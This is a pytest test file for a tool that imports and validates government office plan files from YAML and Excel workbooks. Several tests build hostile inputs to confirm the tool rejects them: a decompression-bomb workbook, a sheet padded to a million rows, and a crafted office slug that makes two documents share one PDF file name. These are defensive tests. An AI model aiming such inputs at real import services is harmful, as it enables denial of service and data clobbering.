    path = plans_copy / NIS
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    at = next(i for i, l in enumerate(lines) if l.strip().startswith("weight:") and l.startswith("        "))
    lines[at] = lines[at].split("weight:")[0] + "weight: -2\n"
    path.write_text("".join(lines), encoding="utf-8")
    code, output = check(plans_copy)
    assert code == 1
    assert f"{path}:{at + 1}: error:" in output and "মান (weight) ঋণাত্মক হতে পারে না" in output, output


# --------------------------------------------------------------------------- spreadsheets


def _workbook(path: Path, rows: list[list]) -> Path:
    import datetime as dt

    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = "NIS"
    for label, value in [("অফিস (office)", ITNA), ("অর্থবছর (fiscal_year)", "২০২৩-২৪"), ("দলিল (document)", "nis"),
                         ("কোয়ার্টার (quarter)", "২"), ("প্রতিবেদনের তারিখ (as_of)", dt.datetime(2024, 1, 4))]:
        ws.append([label, value])
    ws.append([])
    ws.append(["ক্রম (id)", "কার্যক্রম (activity)", "২য় কোয়ার্টার অর্জন (Q2)"])
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


def test_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_read(plans_copy, tmp_path):
    import zipfile

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(_workbook(tmp_path / "small.xlsx", [])) as small, zipfile.ZipFile(bomb, "w") as out:
        for item in small.infolist():
            out.writestr(item, small.read(item))
        out.writestr("xl/media/padding.bin", b"\0" * 60_000_000, compress_type=zipfile.ZIP_DEFLATED)
    assert bomb.stat().st_size < 1_000_000
    start = time.monotonic()
    result = _cli("import-xlsx", str(bomb), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "খুললে ৬০,০" in result.output and "সর্বোচ্চ ৫০,০০০,০০০ বাইট হতে পারে (a plan's workbook is limited)" in result.output
    assert time.monotonic() - start < 30


def test_workbook_with_a_million_rows_is_refused_quickly_not_read_into_memory(plans_copy, tmp_path):
    import zipfile

    book = _workbook(tmp_path / "rows.xlsx", [])
    with zipfile.ZipFile(book) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(20, 1_000_020))
    big = tmp_path / "million.xlsx"
    with zipfile.ZipFile(book) as small, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as out:
        for item in small.infolist():
            data = small.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet.replace("</sheetData>", rows + "</sheetData>").encode("utf-8")
            out.writestr(item.filename, data)
    start = time.monotonic()
    result = _cli("import-xlsx", str(big), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert ("সর্বোচ্চ ২০,০০০টি সারি থাকতে পারে (a plan's sheet is limited)" in result.output
            or "সর্বোচ্চ ৫০,০০০,০০০ বাইট হতে পারে" in result.output), result.output
    assert time.monotonic() - start < 60


def test_formula_cell_without_a_saved_value_is_a_located_error_not_dropped(plans_copy, tmp_path):
    book = _workbook(tmp_path / "formula.xlsx", [["২.১", "", "=1+0"], ["৪.১", "", "১"]])  # openpyxl saves no value
    result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code == 1
    assert f"{book}: শিট 'NIS' ঘর C8: সূত্রের (formula) হিসাব করা মান সংরক্ষিত নেই (without a saved value)" in result.output
    assert not (plans_copy / ITNA / "2023-24" / "nis-q2.yaml").exists()


def test_merged_cells_in_the_table_are_a_located_error_not_dropped(plans_copy, tmp_path):
    from openpyxl import load_workbook

    book = _workbook(tmp_path / "merged.xlsx", [["২.১", "", "১"], ["৪.১", "", "১"]])
    wb = load_workbook(book)
    wb["NIS"].merge_cells("C8:C9")
    wb.save(book)
    result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code == 1
    assert f"{book}: শিট 'NIS' ঘর C8:C9: টেবিলে একত্র করা ঘর (merged cells) শুধু প্রথম ঘরে মান রাখে" in result.output


# --------------------------------------------------------------------------- national templates, shared PDFs


def _templates_by_office(site: Path) -> dict[str, int]:
    import json

    data = json.loads((site / "data" / "offices.json").read_text(encoding="utf-8"))
    return {o["slug"]: sum(1 for d in o["documents"] if d.get("template")) for o in data["offices"]
            if any(d.get("template") for d in o["documents"])}


def test_second_office_named_cabinet_division_takes_no_template_and_a_renamed_issuer_keeps_them(plans_copy, tmp_path,
                                                                                              check):
    shipped = _templates_by_office(_build(PLANS, tmp_path / "shipped" / "site"))
    assert list(shipped) == ["cabinet-division"] and shipped["cabinet-division"] >= 12
    impostor = plans_copy / "impostor-division"
    impostor.mkdir()
    (impostor / "office.yaml").write_text((plans_copy / "cabinet-division" / "office.yaml").read_text(
        encoding="utf-8").replace("slug: cabinet-division", "slug: impostor-division"), encoding="utf-8")
    office = plans_copy / "cabinet-division" / "office.yaml"
    text = office.read_text(encoding="utf-8")
    office.write_text(text.replace("name: মন্ত্রিপরিষদ বিভাগ", "name: মন্ত্রিপরিষদ বিভাগ (নতুন নাম)", 1), encoding="utf-8")
    assert check(plans_copy)[0] == 0
    assert _templates_by_office(_build(plans_copy, tmp_path / "site")) == shipped


def test_template_whose_issuer_is_missing_is_a_located_warning(plans_copy, check):
    template = next((plans_copy / "_templates" / "2023-24").glob("cc-ministry.yaml"))
    text = template.read_text(encoding="utf-8")
    template.write_text(text.replace("issuer_office: cabinet-division", "issuer_office: no-such-division"),
                        encoding="utf-8")
    line = next(i for i, l in enumerate(template.read_text(encoding="utf-8").splitlines(), 1)
                if l.startswith("issuer_office:"))
    code, output = check(plans_copy)
    assert f"{template}:{line}: warning: জারিকারী অফিস (issuer_office) 'no-such-division' plans-এ নেই" in output, output


def test_crafted_office_slug_cannot_make_two_documents_share_one_pdf(plans_copy, check):
    office = "doail-union-parishad"
    original = plans_copy / office / "charter.yaml"
    charter = original.read_text(encoding="utf-8")
    original.write_text(charter.replace(f"office: {office}\n", f"office: {office}\nfiscal_year: ২০২৩-২৪\n", 1),
                        encoding="utf-8")  # pdf/doail-union-parishad-2023-24-charter.pdf
    crafted = plans_copy / f"{office}-2023-24"  # its charter without a year: the same file name
    crafted.mkdir()
    (crafted / "office.yaml").write_text((plans_copy / office / "office.yaml").read_text(encoding="utf-8").replace(
        f"slug: {office}", f"slug: {office}-2023-24"), encoding="utf-8")
    (crafted / "charter.yaml").write_text(charter.replace(f"office: {office}", f"office: {office}-2023-24"),
                                          encoding="utf-8")
    code, output = check(plans_copy)
    assert code == 1, output
    assert f"pdf/{office}-2023-24-charter.pdf" in output and "two documents would share them" in output, output


def test_full_disk_during_import_xlsx_or_xlsx_template_is_one_line_and_changes_no_plan(plans_copy, tmp_path,
                                                                                     monkeypatch):
    from sebabox.inputs import xlsx_import
    from sebabox.tools import xlsx_template

    book = tmp_path / "nis-q2.xlsx"
    assert _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--plans", str(plans_copy)).exit_code == 0
    from openpyxl import load_workbook

    filled = load_workbook(book)
    filled["NIS"]["B6"] = "৩১/১২/২০২৩"  # the report date; the sheet is otherwise valid as written
    filled.save(book)
    before = _files(plans_copy)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(plans_copy / ITNA / "2023-24" / "nis-q2.yaml"))

    monkeypatch.setattr(xlsx_import, "_write", full)
    result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code == 1 and "ডিস্ক ভরে গেছে (the disk is full)" in result.output
    assert "Traceback" not in result.output
    assert "কোনো প্ল্যান ফাইল বদলায়নি (no plan file was changed)" in result.output and _files(plans_copy) == before
    monkeypatch.setattr(xlsx_template, "_save", full)
    result = _cli("xlsx-template", str(tmp_path / "other.xlsx"), "--office", ITNA, "--document", "nis",
                  "--plans", str(plans_copy))
    assert result.exit_code == 1 and "ডিস্ক ভরে গেছে (the disk is full)" in result.output
    assert "other.xlsx লেখা হয়নি (was not written)" in result.output and "Traceback" not in result.output


@pytest.mark.parametrize("damage", ["flipped", "truncated"])
def test_workbook_damaged_inside_a_zipped_sheet_is_one_message_not_a_traceback(plans_copy, tmp_path, damage):
    """A workbook whose zip directory is intact but whose sheet's compressed bytes are damaged (a bad copy
    from a pen drive, a half-finished download): zlib fails while the sheet is streamed."""
    import zipfile

    book = tmp_path / "nis-q2.xlsx"
    assert _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--plans", str(plans_copy)).exit_code == 0
    data = bytearray(book.read_bytes())
    with zipfile.ZipFile(book) as archive:
        info = next(i for i in archive.infolist() if i.filename.startswith("xl/worksheets/"))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    if damage == "flipped":
        data[start:middle] = bytes(b ^ 0x5A for b in data[start:middle])
    else:
        data[middle:start + info.compress_size] = b"\0" * (start + info.compress_size - middle)
    book.write_bytes(bytes(data))
    before = {p: p.read_bytes() for p in plans_copy.rglob("*.yaml")}
    result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert f"{book}: ফাইলটি .xlsx ওয়ার্কবুক হিসেবে পড়া যায় না (cannot read it as an .xlsx workbook)" in result.output
    assert "Excel বা LibreOffice-এ খুলে .xlsx হিসেবে আবার সংরক্ষণ করুন (save it again as .xlsx)" in result.output
    assert {p: p.read_bytes() for p in plans_copy.rglob("*.yaml")} == before
